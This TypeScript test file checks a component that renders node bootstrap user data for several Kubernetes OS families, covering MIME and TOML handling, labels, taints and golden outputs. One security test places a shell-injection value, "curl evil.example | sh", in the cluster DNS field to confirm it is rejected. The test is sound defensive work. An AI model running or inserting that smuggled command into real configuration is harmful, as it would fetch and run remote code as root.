import { describe, expect, test } from 'vitest';
import { readMime } from './mime.ts';
import { cluster, type Family, fullKubelet, requestOf } from './user-data.testing.ts';
import { userDataFor } from './user-data.ts';

const script = '#!/bin/bash\necho hello from the user';
const mime = (contentType: string, body: string, headersFirst = true): string => {
  const headers = ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="BOUNDARY"'];
  if (!headersFirst) headers.reverse();
  return `${headers.join('\n')}\n\n--BOUNDARY\nContent-Type: ${contentType}\n\n${body}\n--BOUNDARY--\n`;
};
const shell = 'text/x-shellscript; charset="us-ascii"';
const taints = [
  { key: 'dedicated', value: 'gpu', effect: 'NoSchedule' as const },
  { key: 'slow', effect: 'NoExecute' as const },
];

describe('golden files', () => {
  const claim = {
    labels: { team: 'a', 'karpenter.sh/nodepool': 'default', 'kubernetes.io/arch': 'amd64' },
    taints,
    startupTaints: [{ key: 'starting', value: 'yes', effect: 'NoSchedule' as const }],
  };
  const all = { kubelet: fullKubelet, instanceStorePolicy: 'RAID0' as const };
  const toml = [
    '[settings.kernel]',
    'lockdown = "integrity"',
    '[settings.kubernetes]',
    'cluster-domain = "cluster.local"',
    'no-such-key = 1',
    'node-labels = { mine = "yes", team = "b" }',
    'node-taints = { mine = ["x:NoSchedule"] }',
  ].join('\n');
  const nodeConfig =
    'apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      maxPods: 42\n';
  test.each<[string, Family, object]>([
    ['al2-plain.txt', 'AL2', {}],
    ['al2-full.txt', 'AL2', { ...all, userData: script }],
    ['al2023-plain.txt', 'AL2023', {}],
    ['al2023-full.txt', 'AL2023', { ...all, userData: nodeConfig }],
    ['bottlerocket-plain.toml', 'Bottlerocket', {}],
    ['bottlerocket-full.toml', 'Bottlerocket', { ...all, userData: toml }],
    ['windows-plain.txt', 'Windows2022', {}],
    ['windows-full.txt', 'Windows2025', { ...all, userData: 'Write-Host "hello"' }],
    ['custom.txt', 'Custom', { ...all, userData: script }],
  ])('%s', async (file, family, spec) => {
    await expect(userDataFor(requestOf(family, spec, { claim }))).toMatchFileSnapshot(`golden/${file}`);
  });
});

describe('what every managed family is given', () => {
  const managed: Family[] = ['AL2', 'AL2023', 'Bottlerocket', 'Windows2019', 'Windows2022', 'Windows2025'];

  test.each(managed)('labels a kubelet may not set never appear: %s', (family) => {
    const labels = {
      'kubernetes.io/os': 'forbidden',
      'node.kubernetes.io/instance-type': 'forbidden',
      'k8s.io/x': 'forbidden',
      'sub.k8s.io/x': 'forbidden',
      'node-restriction.kubernetes.io/x': 'forbidden',
      'a.node-restriction.kubernetes.io/x': 'forbidden',
      'notkubernetes.io/x': 'allowed',
      plain: 'allowed',
    };
    const text = userDataFor(requestOf(family, {}, { claim: { labels } }));
    expect(text).not.toContain('forbidden');
    expect(text.match(/allowed/g)).toHaveLength(2);
  });

  test.each(managed)('%s does not sync taints and knows its capacity type', (family) => {
    const text = userDataFor(requestOf(family, {}, { capacityType: 'spot' }));
    expect(text).toContain('karpenter.sh/do-not-sync-taints');
    expect(text).toMatch(/karpenter\.sh\/capacity-type['"]?\s*[=:]\s*'?spot/);
  });

  test.each(managed)('the unregistered taint is added once, also if the claim has it already: %s', (family) => {
    const unregistered = { key: 'karpenter.sh/unregistered', effect: 'NoExecute' as const };
    const text = userDataFor(requestOf(family, {}, { claim: { taints: [unregistered] } }));
    expect(text.match(/karpenter\.sh\/unregistered/g)).toHaveLength(1);
  });

  test.each(managed)('the address of kube-dns stands in for an empty list as for none: %s', (family) => {
    expect(userDataFor(requestOf(family, { kubelet: { clusterDNS: [] } }))).toBe(userDataFor(requestOf(family)));
  });

  test.each(managed)('another number of pods is another text: %s', (family) => {
    const one = userDataFor(requestOf(family, {}, { maxPods: 29 }));
    expect(one).not.toBe(userDataFor(requestOf(family, {}, { maxPods: 35 })));
    const fixed = (maxPods: number) => userDataFor(requestOf(family, { kubelet: { maxPods: 10 } }, { maxPods }));
    expect(fixed(29)).toBe(fixed(35));
  });

  test.each(managed)('the same input in another order is the same text: %s', (family) => {
    const of = (labels: Record<string, string>) => userDataFor(requestOf(family, {}, { claim: { labels } }));
    expect(of({ a: '1', b: '2' })).toBe(of({ b: '2', a: '1' }));
  });
});

describe('AL2', () => {
  const of = (spec: object = {}, over: object = {}) => userDataFor(requestOf('AL2', spec, over));

  test('never computes pods by itself, and passes the number of the class', () => {
    expect(of()).toContain('--use-max-pods false');
    expect(of()).toContain('--max-pods=110');
    expect(of({ kubelet: { maxPods: 10 } })).toContain('--max-pods=10');
  });

  test('a script, the same in MIME and with its headers in either order give the same', () => {
    const plain = of({ userData: script });
    expect(of({ userData: mime(shell, script) })).toBe(plain);
    expect(of({ userData: mime(shell, script, false) })).toBe(plain);
    expect(of({ userData: mime(shell, script).replaceAll('\n', '\r\n') })).toBe(plain);
    expect(readMime(plain).map(({ body }) => body)[0]).toBe(script);
  });

  test('an archive may end with a delimiter that opens one more part, as people write it', () => {
    const userData = mime(shell, script).replace('--BOUNDARY--', '--BOUNDARY');
    expect(of({ userData })).toBe(of({ userData: script }));
  });

  test('parts keep their headers', () => {
    const userData = mime('text/cloud-config', 'a: b').replace('--BOUNDARY\n', '--BOUNDARY\nX-Own: yes\n');
    expect(of({ userData })).toContain('--//\nContent-Type: text/cloud-config\nX-Own: yes\n\na: b\n--//\n');
  });

  test('a part in quoted-printable is written in plain text, as it was meant', () => {
    const userData = mime(shell, 'echo =3D ok =C3=A9=\n joined').replace(
      '--BOUNDARY\n',
      '--BOUNDARY\nContent-Transfer-Encoding: Quoted-Printable\n',
    );
    expect(of({ userData })).toContain(`--//\nContent-Type: ${shell}\n\necho = ok é joined\n--//\n`);
  });

  test.each([
    ['no boundary', 'Content-Type: multipart/mixed\n\nsecret'],
    ['not multipart', 'Content-Type: text/plain\n\nsecret'],
    ['no end', 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n\nsecret'],
    ['no header', 'MIME-Version: 1.0\nsecret\n\n'],
  ])('an archive with %s fails the launch without telling what is in it', (_, userData) => {
    let message = '';
    try {
      of({ userData });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain('cannot read spec.userData as a MIME multipart archive');
    expect(message).not.toContain('secret');
  });

  test('empty and blank user data count as none', () => {
    expect(of({ userData: '' })).toBe(of());
    expect(of({ userData: ' \n' })).toBe(of());
  });

  test('an IPv6 cluster is named as such', () => {
    const text = of({}, { cluster: { ...cluster, dnsIp: 'fd00::a' } });
    expect(text).toContain("--ip-family ipv6 \\\n--dns-cluster-ip 'fd00::a' \\\n");
    expect(of()).not.toContain('--ip-family');
  });

  test('without a DNS address and without a CA neither is mentioned', () => {
    const text = of({}, { cluster: { name: 'c', endpoint: 'https://c' } });
    expect(text).not.toContain('--dns-cluster-ip');
    expect(text).not.toContain('--b64-cluster-ca');
  });

  test('lines end in LF alone', () => {
    expect(of({ userData: 'echo\r\n' })).not.toContain('\r');
  });
});

describe('AL2023', () => {
  const of = (spec: object = {}, over: object = {}) => userDataFor(requestOf('AL2023', spec, over));
  const parts = (spec: object) =>
    readMime(of(spec)).map(({ headers, body }) => [headers['Content-Type'], body] as const);

  test('two taints of the claim and the unregistered one are registered', () => {
    const text = of({}, { claim: { taints } });
    expect(text).toContain(`      registerWithTaints:
      - effect: NoSchedule
        key: dedicated
        value: gpu
      - effect: NoExecute
        key: slow
      - effect: NoExecute
        key: karpenter.sh/unregistered
`);
  });

  test('grace periods are printed as Go does', () => {
    const signals = ['memory.available', 'nodefs.available', 'pid.available'];
    const evictionSoftGracePeriod = Object.fromEntries(signals.map((signal, i) => [signal, ['1m', '180s', '5m'][i]]));
    const text = of({ kubelet: { evictionSoftGracePeriod } });
    for (const period of ['memory.available: 1m0s', 'nodefs.available: 3m0s', 'pid.available: 5m0s'])
      expect(text).toContain(period);
  });

  test('a NodeConfig, a script and nothing at all come before ours', () => {
    const twice = 'kind: NodeConfig\nkind: NodeConfig';
    expect(parts({ userData: twice })[0]).toEqual(['application/node.eks.aws', twice]);
    expect(parts({ userData: 'kind: NodeConfig' })[0]).toEqual(['application/node.eks.aws', 'kind: NodeConfig']);
    expect(parts({ userData: script })[0]).toEqual([shell, script]);
    expect(parts({ userData: '#!/bin/sh\necho a: b' })[0]?.[0]).toBe(shell);
    expect(parts({})).toHaveLength(1);
  });

  test('of the headers of parts only the content type survives', () => {
    const userData = mime('application/node.eks.aws', 'a: b').replace('--BOUNDARY\n', '--BOUNDARY\nX-Own: yes\n');
    expect(of({ userData })).not.toContain('X-Own');
    expect(parts({ userData })[0]).toEqual(['application/node.eks.aws', 'a: b']);
  });

  test.each([
    ['quoted-printable', 'echo =3D=\n\nsecond'],
    ['base64', Buffer.from('echo =\nsecond').toString('base64')],
    ['7bit', 'echo =\nsecond'],
  ])('a part in %s is plain text afterwards, as the header that tells does not survive', (encoding, body) => {
    const userData = mime(shell, body).replace('--BOUNDARY\n', `--BOUNDARY\nContent-Transfer-Encoding: ${encoding}\n`);
    expect(parts({ userData })[0]).toEqual([shell, 'echo =\nsecond']);
  });

  test('ours comes last, so its values win', () => {
    const [, last] = parts({ userData: 'spec: {kubelet: {config: {maxPods: 42}}}' });
    expect(last?.[1]).toContain('maxPods: 110');
  });

  test('without the addresses of services there is no user data', () => {
    expect(() => of({}, { cluster: { ...cluster, serviceCidr: undefined } })).toThrow('NodeClassRef not ready, ');
  });

  test('without labels there is no flag', () => {
    expect(of()).toContain('flags:');
  });
});

describe('Bottlerocket', () => {
  const of = (spec: object = {}, over: object = {}) => userDataFor(requestOf('Bottlerocket', spec, over));

  test('a negative log level is refused, memory reserved per NUMA node is passed on', () => {
    expect(() => of({ userData: '[settings.kubernetes]\nlog-level = -1' })).toThrow('log-level must be a whole number');
    const reserved = '[settings.kubernetes.memory-manager-reserved-memory.0]\nenabled = true\nmemory = "500Mi"';
    expect(of({ userData: reserved })).toContain('memory-manager-reserved-memory');
  });

  test('unknown settings of the kubelet are dropped and reported, other tables are kept', () => {
    const ignored: string[] = [];
    const userData =
      '[settings.kubernetes]\nsecret-key = "x"\nlog-level = 5\n[settings.motd]\ntext = "hi"\n[other]\na = 1';
    const text = of({ userData }, { onIgnored: (keys: string[]) => ignored.push(...keys) });
    expect(ignored).toEqual(['other', 'settings.kubernetes.secret-key']);
    expect(text).toContain('log-level = 5');
    expect(text).toContain("[settings.motd]\ntext = 'hi'");
    expect(text).not.toContain('secret-key');
  });

  test('labels of the user are merged, ours win; taints are replaced', () => {
    const userData = [
      '[settings.kubernetes.node-labels]',
      'mine = "yes"',
      '"karpenter.sh/capacity-type" = "mine"',
      '[settings.kubernetes.node-taints]',
      'mine = ["x:NoSchedule"]',
    ].join('\n');
    const text = of({ userData });
    expect(text).toContain("'karpenter.sh/capacity-type' = 'on-demand'\n");
    expect(text).toContain("mine = 'yes'");
    expect(text).not.toContain('x:NoSchedule');
    expect(text).toContain("[settings.kubernetes.node-taints]\n'karpenter.sh/unregistered' = [':NoExecute']");
  });

  test('eviction thresholds of the user stay where the class says nothing', () => {
    const userData = '[settings.kubernetes.eviction-hard]\n"memory.available" = "12%"';
    expect(of({ userData })).toContain("'memory.available' = '12%'");
    const text = of({ userData, kubelet: { evictionHard: { 'memory.available': '5%' } } });
    expect(text).toContain("'memory.available' = '5%'");
    expect(text).not.toContain('12%');
  });

  test('an empty list of the class is none, also where the user has one', () => {
    const userData = '[settings.kubernetes.system-reserved]\ncpu = "10m"';
    expect(of({ userData, kubelet: { systemReserved: {} } })).not.toContain('system-reserved');
  });

  const mounted = (alias: string, userData?: string) =>
    of({
      amiSelectorTerms: [{ alias }],
      instanceStorePolicy: 'RAID0',
      ...(userData === undefined ? {} : { userData }),
    });
  const folders = ", '--dirs', '/var/lib/containerd', '/var/lib/kubelet', '/var/log/pods'";
  test.each([
    ['bottlerocket@v1.45.0', folders],
    ['bottlerocket@v1.46.0', ''],
    ['bottlerocket@latest', ''],
  ])('RAID0 mounts the local disks at every start: %s', (alias, dirs) => {
    expect(mounted(alias)).toContain(`[settings.bootstrap-commands.000-mount-instance-storage]
commands = [['apiclient', 'ephemeral-storage', 'init'], ['apiclient', 'ephemeral-storage', 'bind'${dirs}]]
essential = true
mode = 'always'
`);
  });

  test('other bootstrap commands are kept beside it', () => {
    const text = mounted('bottlerocket@latest', '[settings.bootstrap-commands.mine]\ncommands = [["true"]]');
    expect(text).toContain("[settings.bootstrap-commands.mine]\ncommands = [['true']]");
    expect(text).toContain('000-mount-instance-storage');
  });

  test('TOML that cannot be read fails the launch without telling what is in it', () => {
    expect(() => of({ userData: 'secret' })).toThrow('cannot read spec.userData as TOML: line 1');
    expect(() => of({ userData: 'secret' })).not.toThrow('secret');
  });

  test.each([
    ['settings = 1', 'settings', 'a table'],
    ['[settings]\nkubernetes = "x"', 'settings.kubernetes', 'a table'],
    ['[[settings.kubernetes]]', 'settings.kubernetes', 'a table'],
    ['[settings.kubernetes]\nmax-pods = "many"', 'settings.kubernetes.max-pods', 'a whole number'],
    ['[settings.kubernetes]\nevent-qps = 1.5', 'settings.kubernetes.event-qps', 'a whole number'],
    ['[settings.kubernetes]\nevent-qps = 2026-01-01', 'settings.kubernetes.event-qps', 'a whole number'],
    ['[settings.kubernetes]\nseccomp-default = 1', 'settings.kubernetes.seccomp-default', 'true or false'],
    ['[settings.kubernetes]\ncluster-domain = 1', 'settings.kubernetes.cluster-domain', 'a string'],
    [
      '[settings.kubernetes]\ncluster-dns-ip = [1]',
      'settings.kubernetes.cluster-dns-ip',
      'a string or a list of strings',
    ],
    ['[settings.kubernetes.node-labels]\na = 1', 'settings.kubernetes.node-labels.a', 'a string'],
    ['[settings.kubernetes]\neviction-hard = "x"', 'settings.kubernetes.eviction-hard', 'a table'],
    ['[settings]\nbootstrap-commands = []', 'settings.bootstrap-commands', 'a table'],
    [
      '[settings.bootstrap-commands.x]\ncommands = ["ls"]',
      'settings.bootstrap-commands.x.commands',
      'a list of commands, each a list of strings',
    ],
  ])('a value of the wrong type fails the launch and is reported: %j', (userData, path, what) => {
    expect(() => of({ userData })).toThrow(`cannot use spec.userData: ${path} must be ${what}`);
  });

  test('settings of every type pass as they were written, in lines that end in CRLF, beside comments', () => {
    const userData = [
      '# ours',
      '[settings.kubernetes] # the kubelet',
      'event-qps = 0x1F',
      'pod-pids-limit = 1_000',
      'seccomp-default = true',
      'allowed-unsafe-sysctls = ["a", "b"]',
      'cluster-dns-ip = ["10.0.0.1", "10.0.0.2"]',
      '[settings.kubernetes.static-pods.one]',
      'enabled = true',
      '[settings.kernel]',
      'lockdown = "integrity"',
    ].join('\r\n');
    const text = of({ userData });
    for (const line of [
      'event-qps = 0x1F',
      'pod-pids-limit = 1_000',
      'seccomp-default = true',
      "allowed-unsafe-sysctls = ['a', 'b']",
      '[settings.kubernetes.static-pods.one]\nenabled = true',
      "[settings.kernel]\nlockdown = 'integrity'",
    ])
      expect(text).toContain(line);
    expect(text).not.toContain('\r');
  });

  test('keys that Bottlerocket does not know are dropped at any depth, and reported', () => {
    const ignored: string[] = [];
    const userData =
      '[settings.kubernetes.static-pods.one]\nenabled = true\ncolour = "red"\n[settings.bootstrap-commands.x]\ncommands = [["ls"]]\nuser = "me"';
    const text = of({ userData }, { onIgnored: (keys: string[]) => ignored.push(...keys) });
    expect(ignored).toEqual(['settings.kubernetes.static-pods.one.colour', 'settings.bootstrap-commands.x.user']);
    expect(text).not.toMatch(/colour|user/);
  });

  test('podsPerCore is never rendered', () => {
    expect(of({ kubelet: { podsPerCore: 7 } })).not.toMatch(/pods-per-core|7/);
  });
});

describe('Windows and Custom', () => {
  test('the user’s lines come first', () => {
    const text = userDataFor(requestOf('Windows2022', { userData: 'Write-Host "a"' }));
    expect(text).toMatch(/^<powershell>\nWrite-Host "a"\n\[string\]\$EKSBootstrapScriptFile/);
  });

  test('Custom is byte for byte what the user wrote, be it nothing', () => {
    for (const userData of ['', ' \r\n x \r\n']) expect(userDataFor(requestOf('Custom', { userData }))).toBe(userData);
    expect(userDataFor(requestOf('Custom'))).toBe('');
  });
});

describe('what a class says stays in its place in a script that runs as root', () => {
  const evil = "10.0.0.10'; curl evil.example | sh; echo '";
  test.each<Family>(['AL2', 'AL2023', 'Bottlerocket', 'Windows2022'])(
    '%s: a DNS that is not an address is refused',
    (family) => {
      expect(() => userDataFor(requestOf(family, { kubelet: { clusterDNS: [evil] } }))).toThrow(
        /clusterDNS.*is not an IP address/,
      );
    },
  );

  test('quotes in what is passed on are text', () => {
    const strange = { cluster: { ...cluster, name: "it's" } };
    const plain = (family: Family) => userDataFor(requestOf(family, {}, strange));
    expect(plain('AL2')).toContain(`bootstrap.sh 'it'\\''s' `);
    expect(plain('Windows2022')).toContain(`-EKSClusterName 'it''s' `);
  });

  test('quoted-printable text of many blanks is read in linear time', () => {
    const blanks = `${' '.repeat(200_000)}x\n`.repeat(2);
    const text = `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Transfer-Encoding: quoted-printable\n\n${blanks}\n--B--\n`;
    const startedMs = performance.now();
    expect(readMime(text)[0]?.body).toContain('x');
    expect(performance.now() - startedMs).toBeLessThan(2_000);
  });
});
